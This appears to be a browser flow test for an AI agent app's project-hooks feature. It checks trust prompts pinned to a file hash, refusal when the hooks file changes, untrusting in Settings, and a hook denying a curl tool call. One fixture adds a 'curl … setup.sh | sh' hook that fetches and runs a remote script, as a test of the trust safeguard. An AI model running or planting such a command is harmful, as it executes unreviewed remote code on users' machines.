// Chromium flow test of hooks against the dev-only mock backend: the
// new-run form's banner for a workspace whose project hooks nobody
// trusted; the trust prompt lists the commands and trusts the sha256 it
// shows — a file edited meanwhile is refused, said so and shown again;
// Settings' Hooks stops trusting; a run with hooks shows the PreToolUse
// deny on the curl call's card (and under the call in Events), the Stop
// block, and the not-trusted notice whose Review button opens the prompt.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { OPENAI, byId, shot, showEvents, startUi } from "./support.mjs";

let ui;
before(async () => {
  ui = await startUi();
});
after(async () => {
  await ui?.close();
});

const PROJECT = "/home/dev/projects/bear-demo";
const HOOKS = [
  { event: "PreToolUse", matcher: "run_command", command: "./scripts/guard-commands.sh --strict", timeoutSecs: 60 },
  { event: "Stop", matcher: null, command: "cargo fmt --check", timeoutSecs: 30 },
];
const ADDED = { event: "SessionStart", matcher: "startup", command: "curl -s https://example.com/setup.sh | sh", timeoutSecs: 10 };
const seed = { recent: [PROJECT], current: PROJECT, settings: { providers: [OPENAI] }, stepMs: 20, streamMs: 10, projectHooks: { [PROJECT]: { hooks: HOOKS } } };
const calls = (page, cmd) => page.evaluate((name) => window.__bearagentMock.calls.filter((c) => c.cmd === name).map((c) => c.args), cmd);
const promptCommands = (page) => page.locator('[data-testid="hooks-trust"] [data-testid="hooks-trust-command"]').allInnerTexts();

/** The banner's Review opens the prompt on the file as it is: its commands and path. */
async function openFromBanner(page) {
  const banner = byId(page, "hooks-banner");
  await banner.waitFor();
  assert.match(await banner.innerText(), /project hooks; they do not run until you trust them/);
  await byId(page, "hooks-banner-review").click();
  await byId(page, "hooks-trust").waitFor();
  assert.deepEqual(await promptCommands(page), HOOKS.map((h) => h.command));
  assert.equal(await byId(page, "hooks-trust-file").innerText(), `${PROJECT}/.bearagent/hooks.toml`);
  assert.match(await byId(page, "hooks-trust").innerText(), /run on this machine, with the workspace as their folder[\s\S]*Editing the file untrusts it/);
  return byId(page, "hooks-trust").getAttribute("data-sha256");
}

test("the banner, the trust prompt (a file changed meanwhile is shown again), and Stop trusting in Settings", async () => {
  const { page, problems, close } = await ui.openApp(seed);
  try {
    const shownSha = await openFromBanner(page);
    await shot(page, "hooks-trust-prompt");

    // The file changes under the open prompt: trusting what was shown is refused, and the new file is shown.
    const newSha = await page.evaluate(([path, hooks]) => window.__bearagentMock.editProjectHooks(path, hooks), [PROJECT, [...HOOKS, ADDED]]);
    await byId(page, "trust-hooks").click();
    await byId(page, "hooks-trust-changed").waitFor();
    assert.equal(await byId(page, "hooks-trust-changed").innerText(), "The file changed since you opened it — review it again.");
    await page.locator(`[data-testid="hooks-trust"][data-sha256="${newSha}"]`).waitFor();
    assert.deepEqual(await promptCommands(page), [...HOOKS, ADDED].map((h) => h.command));
    await shot(page, "hooks-trust-changed");

    await byId(page, "trust-hooks").click();
    await byId(page, "hooks-trust").waitFor({ state: "hidden" });
    await byId(page, "hooks-banner").waitFor({ state: "detached" });
    assert.deepEqual(await calls(page, "trust_project_hooks"), [
      { workspace: PROJECT, sha256: shownSha },
      { workspace: PROJECT, sha256: newSha },
    ]);

    await byId(page, "nav-settings").click();
    const section = byId(page, "hooks-section");
    await section.locator('[data-testid="hooks-state"][data-state="trusted"]').waitFor();
    assert.match(await section.innerText(), /\[\[hooks\.PreToolUse\]\]/);
    assert.deepEqual(await section.getByTestId("hooks-command").allInnerTexts(), [...HOOKS, ADDED].map((h) => h.command));
    await section.scrollIntoViewIfNeeded();
    await shot(page, "hooks-settings");
    await byId(page, "untrust-hooks").click();
    await section.locator('[data-testid="hooks-state"][data-state="untrusted"]').waitFor();
    assert.deepEqual(await calls(page, "untrust_project_hooks"), [{ workspace: PROJECT }]);
    await byId(page, "hooks-review").waitFor();
    assert.deepEqual(problems, []);
  } finally {
    await close();
  }
});

test("a run's hooks: the deny on the curl call's card, the Stop block, and the not-trusted notice's Review", async () => {
  const { page, problems, close } = await ui.openApp(seed);
  try {
    await byId(page, "run-goal").fill("Fetch https://example.com with curl and summarise it");
    await byId(page, "start-run").click();
    await page.locator('[data-testid="run-view"][data-status="succeeded"]').waitFor();

    const notice = byId(page, "hooks-not-trusted");
    assert.match(await notice.innerText(), /project hooks are not trusted .*so none of its 2 commands ran/);
    const card = page.locator('[data-testid="tool-card"][data-call-id="call-hooks-1"]');
    assert.equal(await card.getAttribute("data-status"), "refused");
    const deny = card.locator('[data-testid="hook-run"][data-decision="deny"]');
    assert.equal(await deny.getAttribute("data-hook"), "PreToolUse");
    assert.equal(await deny.getByTestId("hook-reason").innerText(), "curl is not allowed here: use the fetch tool");
    assert.match(await deny.innerText(), /python3 \/home\/dev\/\.local\/share\/bearagent\/hooks\/no-curl\.py[\s\S]*deny[\s\S]*exit 2 · \d/);
    // The Stop hook runs at each answer: it blocks the first, lets the second end the run.
    const stop = page.locator('[data-testid="conv-hook"] [data-testid="hook-run"][data-hook="Stop"][data-decision="block"]');
    assert.equal(await stop.getAttribute("data-decision"), "block");
    assert.match(await stop.innerText(), /say in one line which tool would work instead[\s\S]*The run went on: the model was sent back to work\./);
    assert.match(await byId(page, "hook-warning").innerText(), /stopped at its timeout; the run went on/);
    await deny.getByTestId("hook-toggle").click();
    assert.match(await deny.getByTestId("hook-details").innerText(), /stderr\s+curl is not allowed here/);
    await shot(page, "hooks-run-conversation");

    await notice.getByTestId("review-hooks").click();
    await byId(page, "hooks-trust").waitFor();
    assert.deepEqual(await promptCommands(page), HOOKS.map((h) => h.command));
    await byId(page, "hooks-trust-cancel").click();
    await byId(page, "hooks-trust").waitFor({ state: "hidden" });

    // In Events the hook sits right under the call it decided, naming it.
    await showEvents(page);
    const rows = await page.locator('[data-testid="timeline-row"]').evaluateAll((all) => all.map((r) => [r.dataset.type, r.dataset.callId ?? null]));
    const at = rows.findIndex(([type]) => type === "tool_call_requested");
    assert.deepEqual(rows.slice(at, at + 3), [["tool_call_requested", null], ["hook_ran", "call-hooks-1"], ["tool_call_failed", null]]);
    const hookRow = page.locator('[data-testid="timeline-row"][data-type="hook_ran"][data-call-id="call-hooks-1"]');
    assert.match(await hookRow.getByTestId("hook-call").innerText(), /on call call-hooks-1 · run_command command: "curl -sL https:\/\/example\.com"/);
    assert.equal(await hookRow.locator('[data-testid="hook-run"]').getAttribute("data-decision"), "deny");
    await hookRow.scrollIntoViewIfNeeded();
    await shot(page, "hooks-run-events");
    await page.locator('[data-testid="timeline-row"][data-type="hooks_not_trusted"]').getByTestId("review-hooks").click();
    await byId(page, "hooks-trust").waitFor();
    assert.deepEqual(problems, []);
  } finally {
    await close();
  }
});

test("an invalid hooks file shows its error instead of Trust", async () => {
  const NOTES = "/home/dev/projects/notes";
  const invalid = { [NOTES]: { hooks: [], error: "hooks.toml: unknown event `BeforeEverything`" } };
  const { page, problems, close } = await ui.openApp({ ...seed, recent: [NOTES], current: NOTES, projectHooks: invalid });
  try {
    await byId(page, "hooks-banner-review").click();
    await byId(page, "hooks-trust-invalid").waitFor();
    assert.match(await byId(page, "hooks-trust-invalid").innerText(), /cannot run, trusted or not: hooks\.toml: unknown event `BeforeEverything`/);
    assert.equal(await byId(page, "trust-hooks").count(), 0);
    await byId(page, "hooks-trust-cancel").click();

    await byId(page, "nav-settings").click();
    await page.locator('[data-testid="hooks-state"][data-state="invalid"]').waitFor();
    assert.match(await byId(page, "hooks-invalid").innerText(), /unknown event/);
    assert.equal(await byId(page, "untrust-hooks").count(), 0);
    assert.deepEqual(problems, []);
  } finally {
    await close();
  }
});
